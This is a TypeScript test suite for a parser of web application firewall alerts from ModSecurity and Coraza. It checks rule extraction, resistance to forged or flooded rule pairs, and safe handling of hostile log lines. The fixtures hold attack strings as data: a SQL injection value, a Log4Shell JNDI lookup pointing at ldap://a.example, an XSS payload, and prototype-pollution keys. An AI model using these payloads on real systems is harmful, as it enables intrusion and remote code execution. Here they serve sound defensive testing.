import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { modsecurityAlert } from '../../src/ingest/formats/web/modsecurity.ts';
import { collectEvents } from '../../src/pipeline/events.ts';
import { eventsOf } from '../detect/mapping/helpers.ts';
import { FORMAT_FIXTURES } from '../helpers/format.ts';
import { assertNoPollution, assertSoundEvent, readAs } from '../helpers/hostile.ts';
import { packAlertTitles } from '../helpers/pack-alerts.ts';
import { tempDirs } from '../helpers/temp.ts';

/** Web application firewall alerts (ModSecurity, Coraza) in Apache's and nginx's error logs and in JSON records. */

const dirs = tempDirs('modsecurity');
const PAIRS = '[file "/crs/REQUEST-942-APPLICATION-ATTACK-SQLI.conf"] [line "65"] [id "942100"] [msg "SQL Injection Attack Detected via libinjection"] [severity "CRITICAL"] [tag "attack-sqli"] [hostname "shop.example.com"] [uri "/item.php"] [unique_id "u1"]';

void describe('web application firewall alerts', () => {
  void it('reads the rule, the verdict and the request of alerts in Apache and nginx error logs', async () => {
    const { events: all } = await collectEvents([join(FORMAT_FIXTURES, 'apache-error', 'input.log')], { tz: 'UTC' });
    const events = all.filter((e) => e.rule !== undefined);
    assert.deepEqual(
      events.map((e) => [e.event.dataset, e.event.action, e.event.type, e.rule?.id, e.rule?.category, e.source?.ip, e.url?.original, e.http?.response?.status_code]),
      [
        ['apache.error', 'waf-blocked', ['denied'], '942100', 'attack-sqli', '203.0.113.50', '/item.php', 403],
        ['nginx.error', 'waf-blocked', ['denied'], '949110', 'attack-generic', '161.97.102.240', '/?x=${jndi:ldap://a.example/a}', 403],
      ],
    );
    assert.equal(events[0]?.labels?.['waf.data'], "Matched Data: s&sos found within ARGS:id: 1' or '1'='1", 'the \\xNN escapes are decoded');
  });

  void it('takes only the pairs that end the message: pairs in the matched value the client sent are not the alert', () => {
    const forged = 'ModSecurity: Warning. Matched "Operator `Rx\' with parameter `x\' against variable `ARGS:q\' (Value: `[id "1"] [msg "forged"] [tag "attack-rce"]\' ) ' + PAIRS;
    const alert = modsecurityAlert(forged);
    assert.deepEqual([alert?.rule?.id, alert?.rule?.name, alert?.rule?.category], ['942100', 'SQL Injection Attack Detected via libinjection', 'attack-sqli']);
    const flooded = modsecurityAlert(`ModSecurity: Warning. Matched (Value: \`${'[id "9"] '.repeat(300)}' ) ${PAIRS}`);
    assert.equal(flooded?.rule?.id, '942100', 'hundreds of pairs in the quoted value do not push the alert out');
    assert.equal(modsecurityAlert(`ModSecurity: Warning. x ${PAIRS} and text the pairs do not end`), undefined, 'pairs that do not end the message are not an alert');
    assert.equal(modsecurityAlert('ModSecurity: collections_remove_stale: Failed deleting collection (name "ip"). [hostname "h"]'), undefined, 'no rule id: not an alert');
    assert.equal(modsecurityAlert(`ModSecurity: Warning. x [id "1"] [msg "a \\"quoted\\" word"] [uri "/"]`)?.rule?.name, 'a "quoted" word');
  });

  void it("reads Coraza's alerts in Caddy's JSON log, the client from the message", async () => {
    const events = await eventsOf('caddy.json', `${JSON.stringify({ level: 'error', ts: 1732356000.5, logger: 'http.handlers.waf', msg: `[client "198.51.100.9"] Coraza: Access denied (phase 2). SQLi ${PAIRS.replace('[severity "CRITICAL"]', '[severity "critical"]')}` })}\n`);
    assert.deepEqual(events.map((e) => [e.event.action, e.source?.ip, e.rule?.id, e.event.severity, e.url?.path, e.labels?.['waf.engine']]), [['waf-blocked', '198.51.100.9', '942100', 2, '/item.php', 'coraza']]);
  });

  void it("raises the pack's IDS exploitation rule from a WAF alert", async () => {
    const file = join(dirs.fresh(), 'error.log');
    writeFileSync(file, `[Sat Nov 23 10:00:00.123456 2024] [security2:error] [pid 1:tid 2] [client 203.0.113.50:51234] ModSecurity: Access denied with code 403 (phase 2). detected SQLi ${PAIRS}\n`);
    const titles = await packAlertTitles(dirs.fresh(), [file]);
    assert.ok(titles.includes('IDS alert of an exploitation attempt'), titles.join(' | '));
  });

  void it('survives hostile messages: markup, prototype-named pairs, unterminated and escaped values', async () => {
    const lines = [
      `[Sat Nov 23 10:00:00 2024] [error] [client 1.2.3.4] ModSecurity: Warning. x [__proto__ "p"] [constructor "c"] [id "<script>"] [msg "<img src=x onerror=alert(1)>"] [tag "attack-xss"] [uri "/<b>"]`,
      `[Sat Nov 23 10:00:01 2024] [error] [client 1.2.3.4] ModSecurity: Warning. x [id "1"] [msg "${'\\'.repeat(1001)}`,
      `2024/11/23 10:00:02 [error] 1#1: *1 [client "] ModSecurity: . [id "" ] [msg "\\x"]`,
    ].join('\n');
    const { events } = await readAs('apache-error', `${lines}\n`);
    assert.equal(events.length, 3);
    for (const event of events) assertSoundEvent(event);
    assert.equal(events[0]?.rule?.name, '<img src=x onerror=alert(1)>', 'kept as text: the edges escape it');
    assert.equal(events[0]?.labels?.['waf.tags'], 'attack-xss');
    assert.equal(events[1]?.rule, undefined, 'an unterminated value ends no alert');
    assertNoPollution();
  });
});
